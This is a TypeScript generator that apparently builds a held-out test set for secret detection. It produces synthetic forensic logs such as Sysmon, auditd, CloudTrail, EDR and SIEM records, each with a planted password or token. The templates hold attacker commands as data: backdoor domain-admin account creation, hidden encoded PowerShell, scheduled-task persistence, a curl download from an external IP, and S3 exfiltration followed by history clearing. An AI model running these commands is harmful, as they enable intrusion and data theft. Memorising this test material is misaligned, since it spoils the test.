/**
 * Corpus twenty-five, incident forensics: Sysmon and Security-log events whose command lines hold
 * passwords, auditd records (the PROCTITLE in hex), CloudTrail events with an STS session token,
 * EDR alerts with an encoded PowerShell command, Splunk and Elastic results, memory-dump strings,
 * Kubernetes audit events, a compromised host's shell history and the incident timeline.
 */
import {
  awsSecret,
  b64,
  b64Span,
  B64URL,
  domain,
  draw,
  type HeldOutSecret,
  hex,
  hexOf,
  host,
  human,
  ip,
  jwt,
  keyId,
  num,
  pass,
  pick,
  pubIp,
  sessionToken,
  sha256,
  spread,
  type Template,
  tick,
  urlPass,
  user,
  utf16le,
  uuid,
} from "./_heldout_twentyfive_make.ts";

/** A Sysmon event as `Get-WinEvent … | Format-List` or the XML view shows its data. */
function sysmon(id: number, data: Record<string, string>): string {
  return [
    `<Event xmlns="http://schemas.microsoft.com/win/2004/08/events/event">`,
    `  <System><Provider Name="Microsoft-Windows-Sysmon" Guid="{5770385f-c22a-43e0-bf4c-06f5698ffbd9}"/><EventID>${id}</EventID>`,
    `    <TimeCreated SystemTime="${tick()}"/><Computer>${host().toUpperCase()}.${domain().toLowerCase()}.local</Computer></System>`,
    "  <EventData>",
    ...Object.entries(data).map(([k, v]) => `    <Data Name="${k}">${v}</Data>`),
    "  </EventData>",
    "</Event>",
  ].join("\n");
}

const TEMPLATES: Template[] = [
  {
    label: "Sysmon process creation, net use with a password",
    shape: "command",
    make: (_k, add) =>
      sysmon(1, {
        RuleName: "technique_id=T1021.002,technique_name=SMB/Windows Admin Shares",
        UtcTime: tick().replace("T", " ").slice(0, 23),
        ProcessGuid: `{${uuid()}}`,
        ProcessId: String(num(1000, 9000)),
        Image: "C:\\Windows\\System32\\net.exe",
        CommandLine: `net use \\\\${host().toUpperCase()}\\C$ /user:${domain()}\\adm_${
          user().split(".")[1]
        } ${pass(add)}`,
        User: `${domain()}\\${user()}`,
        Hashes: `SHA256=${sha256().toUpperCase()}`,
        ParentImage: "C:\\Windows\\System32\\cmd.exe",
      }),
  },
  {
    label: "Security 4688, schtasks with the run-as password",
    shape: "command",
    make: (_k, add) =>
      [
        `${tick()}  EventID=4688  Computer=${host().toUpperCase()}  SubjectUserName=${user()}`,
        "New Process Name: C:\\Windows\\System32\\schtasks.exe",
        `Process Command Line: schtasks /create /tn "Updater" /tr "C:\\ProgramData\\upd.exe" /sc onlogon /ru ${domain()}\\svc_backup /rp ${
          human(add)
        } /f`,
        "Token Elevation Type: %%1937",
      ].join("\n"),
  },
  {
    label: "auditd EXECVE and PROCTITLE, a mysql password and its hex",
    shape: "encoded",
    make: (_k, add) => {
      const pw = draw(num(10, 14)) + pick(["!", "#", "-", "."]) + draw(4);
      const title = `mysql\u0000-uroot\u0000-p${pw}`;
      add(hexOf(pw).toUpperCase());
      const n = `${num(1.79e9, 1.8e9)}.${num(100, 999)}:${num(1000, 99999)}`;
      return [
        `type=SYSCALL msg=audit(${n}): arch=c000003e syscall=59 success=yes exit=0 ppid=${
          num(900, 9000)
        } pid=${num(900, 9000)} auid=1001 uid=0 comm="mysql" exe="/usr/bin/mysql" key="exec"`,
        `type=EXECVE msg=audit(${n}): argc=3 a0="mysql" a1="-uroot" a2=2D70${
          hexOf(pw).toUpperCase()
        }`,
        `type=CWD msg=audit(${n}): cwd="/root"`,
        `type=PROCTITLE msg=audit(${n}): proctitle=${hexOf(title).toUpperCase()}`,
      ].join("\n");
    },
  },
  {
    label: "CloudTrail AssumeRole event, the session token in the response",
    shape: "output",
    make: (k) =>
      JSON.stringify(
        {
          eventVersion: "1.09",
          userIdentity: { type: "AWSService", invokedBy: "ec2.amazonaws.com" },
          eventTime: tick().slice(0, 19) + "Z",
          eventSource: "sts.amazonaws.com",
          eventName: "AssumeRole",
          awsRegion: "eu-west-1",
          sourceIPAddress: pubIp(),
          requestParameters: {
            roleArn: `arn:aws:iam::${draw(12, "0123456789")}:role/ci-deployer`,
            roleSessionName: `i-${hex(17)}`,
          },
          responseElements: {
            credentials: {
              accessKeyId: keyId("ASIA"),
              sessionToken: sessionToken(k),
              expiration: "Nov 28, 2026, 4:12:09 PM",
            },
            assumedRoleUser: {
              assumedRoleId: `AROA${draw(17, "ABCDEFGHIJKLMNOPQRSTUVWXYZ234567")}:i-${hex(17)}`,
            },
          },
          requestID: uuid(),
          eventID: uuid(),
        },
        null,
        2,
      ),
  },
  {
    label: "EDR alert, PowerShell -EncodedCommand setting a password",
    shape: "encoded",
    make: (_k, add) => {
      const pw = draw(num(12, 16)) + pick(["!", "#", "-"]) + draw(3);
      const script =
        `$p = ConvertTo-SecureString '${pw}' -AsPlainText -Force; New-LocalUser -Name 'support' -Password $p`;
      const bytes = utf16le(script);
      const at = script.indexOf(pw) * 2;
      add(b64Span(bytes, at, at + pw.length * 2));
      const enc = b64(bytes);
      return JSON.stringify(
        {
          detection_id: `ldt:${hex(32)}:${num(1e9, 9e9)}`,
          severity: "High",
          tactic: "Persistence",
          technique: "Create Account",
          device: { hostname: host().toUpperCase(), local_ip: ip() },
          behaviors: [{
            filename: "powershell.exe",
            cmdline: `powershell.exe -NoP -W Hidden -EncodedCommand ${enc}`,
            sha256: sha256(),
            user_name: `${domain()}\\${user()}`,
            timestamp: tick(),
          }],
        },
        null,
        2,
      );
    },
  },
  {
    label: "Splunk results table, cmdkey with a password",
    shape: "command",
    make: (_k, add) =>
      [
        "index=wineventlog EventCode=4688 New_Process_Name=*cmdkey.exe | table _time host Process_Command_Line",
        "",
        "_time                     host      Process_Command_Line",
        `${tick().replace("T", " ").slice(0, 23)}   ${
          host().toUpperCase().padEnd(8)
        }  cmdkey /generic:TERMSRV/${ip()} /user:${domain()}\\${user()} /pass:${pass(add)}`,
        `${tick().replace("T", " ").slice(0, 23)}   ${
          host().toUpperCase().padEnd(8)
        }  cmdkey /list`,
      ].join("\n"),
  },
  {
    label: "Elastic alert, credentials in a URL on a command line",
    shape: "url",
    make: (_k, add) =>
      JSON.stringify(
        {
          "@timestamp": tick(),
          "kibana.alert.rule.name": "Suspicious curl to external host",
          "host.name": host(),
          "process.command_line": `curl -s -o /tmp/.x https://upload:${
            urlPass(add)
          }@${pubIp()}:8443/drop/${hex(8)}`,
          "process.parent.name": "bash",
          "user.name": "www-data",
        },
        null,
        2,
      ),
  },
  {
    label: "strings of a memory dump, a bearer JWT and a password",
    shape: "output",
    make: (k, add) =>
      [
        `$ strings -n 10 ${host()}.dmp | grep -iE 'authorization|passw'`,
        `Authorization: Bearer ${jwt(k, { sub: user(), scope: "admin", exp: num(1.79e9, 1.8e9) })}`,
        `user=svc_report&password=${pass(add)}&remember=1`,
        "PasswordExpiryWarning",
        "passwd_check_failed",
      ].join("\n"),
  },
  {
    label: "incident timeline, the attacker's backdoor account",
    shape: "command",
    make: (_k, add) =>
      [
        "| Time (UTC) | Host | Event |",
        "| --- | --- | --- |",
        `| ${
          tick().slice(11, 19)
        } | ${host().toUpperCase()} | Initial access via VPN from ${pubIp()} |`,
        `| ${tick().slice(11, 19)} | ${host().toUpperCase()} | \`net user helpdesk2 ${
          pass(add)
        } /add /domain\` |`,
        `| ${
          tick().slice(11, 19)
        } | ${host().toUpperCase()} | \`net group "Domain Admins" helpdesk2 /add /domain\` |`,
        `| ${tick().slice(11, 19)} | ${host().toUpperCase()} | Rclone exfiltration to ${pubIp()} (${
          num(2, 90)
        } GB) |`,
      ].join("\n"),
  },
  {
    label: "shell history of a compromised host",
    shape: "assignment",
    make: (k) =>
      [
        `$ cat /home/${user().replace(".", "")}/.bash_history`,
        "cd /opt/app",
        `export AWS_ACCESS_KEY_ID=${keyId()}`,
        `export AWS_SECRET_ACCESS_KEY=${awsSecret(k)}`,
        "aws s3 sync s3://prod-exports /tmp/.cache/ --quiet",
        "history -c",
      ].join("\n"),
  },
  {
    label: "Sysmon registry event, the Winlogon DefaultPassword",
    shape: "output",
    make: (_k, add) =>
      sysmon(13, {
        RuleName: "technique_id=T1552.002",
        EventType: "SetValue",
        UtcTime: tick().replace("T", " ").slice(0, 23),
        Image: "C:\\Windows\\regedit.exe",
        TargetObject:
          "HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\DefaultPassword",
        Details: human(add),
      }),
  },
  {
    label: "Kubernetes audit event, a Secret created with base64 data",
    shape: "encoded",
    make: (_k, add) =>
      JSON.stringify({
        kind: "Event",
        apiVersion: "audit.k8s.io/v1",
        level: "RequestResponse",
        auditID: uuid(),
        verb: "create",
        user: { username: "system:serviceaccount:ci:deployer" },
        objectRef: { resource: "secrets", namespace: "payments", name: "db-credentials" },
        requestObject: {
          kind: "Secret",
          data: {
            username: b64("payments"),
            password: add(b64(draw(num(16, 22)) + pick(["!", "#", "-"]))),
          },
        },
        requestReceivedTimestamp: tick(),
      }),
  },
  {
    label: "SIEM console, a bearer token wrapped by the column",
    shape: "wrapped",
    make: (k) =>
      [
        `Alert ${uuid()} · Suspicious API use from a new ASN · ${tick()}`,
        "+----------------+--------------------------------------------------------------+",
        `| src_ip         | ${pubIp().padEnd(60)} |`,
        `| process        | ${"curl".padEnd(60)} |`,
        `| command_line   | curl -H "Authorization: Bearer ${k(29, B64URL)} |`,
        `|                | ${k(60, B64URL)} |`,
        `|                | ${(k(21, B64URL) + '" https://api.internal/v2/export').padEnd(60)} |`,
        "+----------------+--------------------------------------------------------------+",
      ].join("\n"),
  },
];

/** Secrets in incident forensics: events, alerts, queries and dumps. */
export function buildForensics(): HeldOutSecret[] {
  return spread(TEMPLATES, 3);
}
